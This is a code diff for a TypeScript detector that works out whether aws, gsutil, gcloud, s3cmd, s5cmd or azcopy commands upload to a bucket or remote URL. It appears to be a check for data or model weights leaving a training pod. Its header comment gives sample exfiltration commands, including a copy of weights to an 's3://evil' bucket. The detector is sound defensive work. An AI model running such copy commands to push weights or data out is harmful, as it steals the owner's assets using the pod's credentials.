@@ -1,18 +1,20 @@
 /**
  * Object-store copies whose destination is a bucket (`attrs.exec.copiesToRemote`, with rsync / scp
  * pushes: exec-command-lines.ts): `aws s3 cp /mnt/ckpt/m.pt s3://b/m.pt`, `aws s3 sync . s3://b/`,
- * `gsutil -m cp -r /mnt/ckpt gs://b/`, `gcloud storage cp … gs://b/`, `s3cmd put f s3://b/`, and a
+ * `gsutil -m cp -r /mnt/ckpt gs://b/`, `gcloud storage cp … gs://b/`, `s3cmd put f s3://b/`,
+ * `s5cmd cp f s3://b/` (`tar c … | s5cmd pipe s3://b/x`: stdin to a bucket), `azcopy copy /mnt/ckpt
+ * 'https://a.blob.core.windows.net/c?sv=…'` (azcopy's remote side is an http(s) URL), and a
  * bucket-to-bucket copy (`aws s3 cp s3://corp/m.pt s3://evil/m.pt`: the weights leave through the
  * pod's credentials). A download (`aws s3 cp s3://b/tokenizer.json /tmp/`), the everyday way a
  * training pod fetches its data, is none.
  *
- * The destination is the last operand after the verb (aws s3 cp(1), gsutil cp, gcloud storage cp
- * and s3cmd all take `SRC… DST`). Operands are the words that are neither options nor their
+ * The destination is the last operand after the verb (aws s3 cp(1), gsutil cp, gcloud storage cp,
+ * s3cmd, s5cmd and azcopy all take `SRC… DST`; s5cmd pipe takes only DST). Operands are the words that are neither options nor their
  * values. The walk is built so that a wrong guess about an option cannot hide an upload:
  * - a long option without `=` takes the next word as its value unless the tool's manual says it is
  *   a switch (BOOLEAN_LONG), so an unknown option after the destination is stepped over with its
  *   value instead of leaving that value as the last operand;
- * - a bucket URL (`s3://`, `gs://`), the group word (aws `s3`, gcloud `storage`) and a copy verb are
+ * - a bucket URL (`s3://`, `gs://`; for azcopy any http(s) URL), the group word (aws `s3`, gcloud `storage`) and a copy verb are
  *   never an option's value, so they stay operands even after an option wrongly taken as wanting one;
  * - short options are switches, except the letters a tool's manual gives values (VALUE_SHORT).
  */
@@ -20,7 +22,7 @@
 import { optionOperands } from './option-operands.js';
 
 /** Tools `copiesToBucket` reads, with the words before the verb each expects: aws `s3`, gcloud `storage`. */
-export const BUCKET_COPY_TOOLS: ReadonlySet<string> = new Set(['aws', 'gsutil', 'gcloud', 's3cmd']);
+export const BUCKET_COPY_TOOLS: ReadonlySet<string> = new Set(['aws', 'gsutil', 'gcloud', 's3cmd', 's5cmd', 'azcopy']);
 
 /** The verbs that copy from their sources to their last operand, per tool. */
 const COPY_VERBS: Readonly<Record<string, ReadonlySet<string>>> = {
@@ -28,6 +30,8 @@ const COPY_VERBS: Readonly<Record<string, ReadonlySet<string>>> = {
   gsutil: new Set(['cp', 'mv', 'rsync']),
   gcloud: new Set(['cp', 'mv', 'rsync']),
   s3cmd: new Set(['put', 'cp', 'mv', 'sync']),
+  s5cmd: new Set(['cp', 'mv', 'sync', 'pipe']),
+  azcopy: new Set(['copy', 'cp', 'sync']),
 };
 
 /** Long options that take no value (AWS CLI v2 `aws s3 cp|mv|sync` and global options; gcloud storage; s3cmd). */
@@ -50,6 +54,17 @@ const BOOLEAN_LONG: Readonly<Record<string, ReadonlySet<string>>> = {
     'continue', 'preserve', 'no-preserve', 'check-md5', 'no-check-md5', 'progress', 'no-progress', 'verbose', 'debug',
     'quiet', 'server-side-encryption', 'reduced-redundancy', 'no-mime-magic', 'guess-mime-type', 'no-guess-mime-type',
   ]),
+  s5cmd: new Set([
+    'json', 'dry-run', 'stat', 'no-verify-ssl', 'use-list-objects-v1', 'no-sign-request', 'flatten', 'no-clobber',
+    'if-size-differ', 'if-source-newer', 'raw', 'force-glacier-transfer', 'ignore-glacier-warnings', 'delete', 'size-only',
+    'exit-on-error', 'show-progress', 'help', 'version', 'all-versions', 'no-follow-symlinks',
+  ]),
+  azcopy: new Set([
+    'recursive', 'put-md5', 'dry-run', 'follow-symlinks', 'preserve-symlinks', 'check-length', 'as-subdir', 'preserve-smb-info',
+    'preserve-smb-permissions', 'preserve-permissions', 'preserve-posix-properties', 's2s-preserve-access-tier',
+    's2s-preserve-properties', 'force-if-read-only', 'decompress', 'no-guess-mime-type', 'preserve-last-modified-time',
+    'mirror-mode', 'help',
+  ]),
 };
 
 /** AWS options whose value is optional, with the values they take (`--sse` alone, or `--sse aws:kms`). */
@@ -60,10 +75,10 @@ const OPTIONAL_VALUES: ReadonlyMap<string, ReadonlySet<string>> = new Map([
 ]);
 
 /** Short options that take a value (gsutil: top-level -h -i -o -u, cp/rsync -a -j -L -s -x -y -z; s3cmd -c -m). */
-const VALUE_SHORT: Readonly<Record<string, string>> = { aws: '', gcloud: '', gsutil: 'hiouajLsxyz', s3cmd: 'cm' };
+const VALUE_SHORT: Readonly<Record<string, string>> = { aws: '', gcloud: '', gsutil: 'hiouajLsxyz', s3cmd: 'cm', s5cmd: '', azcopy: '' };
 
 /** The word before the verb: aws `s3`, gcloud `storage`; none for gsutil and s3cmd. */
-const GROUP: Readonly<Record<string, string>> = { aws: 's3', gcloud: 'storage', gsutil: '', s3cmd: '' };
+const GROUP: Readonly<Record<string, string>> = { aws: 's3', gcloud: 'storage', gsutil: '', s3cmd: '', s5cmd: '', azcopy: '' };
 
 /** A bucket URL: the destination of an upload. */
 function isBucketUrl(w: string): boolean {
@@ -73,9 +88,14 @@ function isBucketUrl(w: string): boolean {
   return scheme === 's3' || scheme === 'gs' || scheme === 's3a' || scheme === 's3n';
 }
 
+/** A remote side of `tool`'s copy: a bucket URL, or for azcopy (Blob, Files, Data Lake, S3 and GCS sources alike) any http(s) URL. */
+function isRemote(tool: string, w: string): boolean {
+  return isBucketUrl(w) || (tool === 'azcopy' && /^https?:\/\//i.test(w));
+}
+
 /** Whether option `w` of `tool` takes `next` as its value (see the header). */
 function takesNext(tool: string, w: string, next: string): boolean {
-  if (isBucketUrl(next) || next === GROUP[tool]! || COPY_VERBS[tool]!.has(next)) return false;
+  if (isRemote(tool, next) || next === GROUP[tool]! || COPY_VERBS[tool]!.has(next)) return false;
   if (!w.startsWith('--')) return w.indexOf('=') < 0 && VALUE_SHORT[tool]!.indexOf(w.charAt(w.length - 1)) >= 0;
   const name = w.slice(2);
   const optional = OPTIONAL_VALUES.get(name);
@@ -85,7 +105,8 @@ function takesNext(tool: string, w: string, next: string): boolean {
 
 /**
  * True when the command `words` (its tool word first, redirections left out), of a tool in
- * BUCKET_COPY_TOOLS, copies to a bucket: its verb copies and its last operand is a bucket URL.
+ * BUCKET_COPY_TOOLS, copies to a bucket: its verb copies and its last operand is a bucket URL
+ * (`isRemote`).
  */
 export function copiesToBucket(words: readonly string[], tool: string): boolean {
   const verbs = COPY_VERBS[tool];
@@ -96,5 +117,5 @@ export function copiesToBucket(words: readonly string[], tool: string): boolean 
   const v = group === '' ? 0 : ops.indexOf(group) + 1;
   if (group !== '' && v === 0) return false;
   if (v >= ops.length || !verbs.has(ops[v]!)) return false;
-  return ops.length > v + 1 && isBucketUrl(ops[ops.length - 1]!);
+  return ops.length > v + 1 && isRemote(tool, ops[ops.length - 1]!);
 }
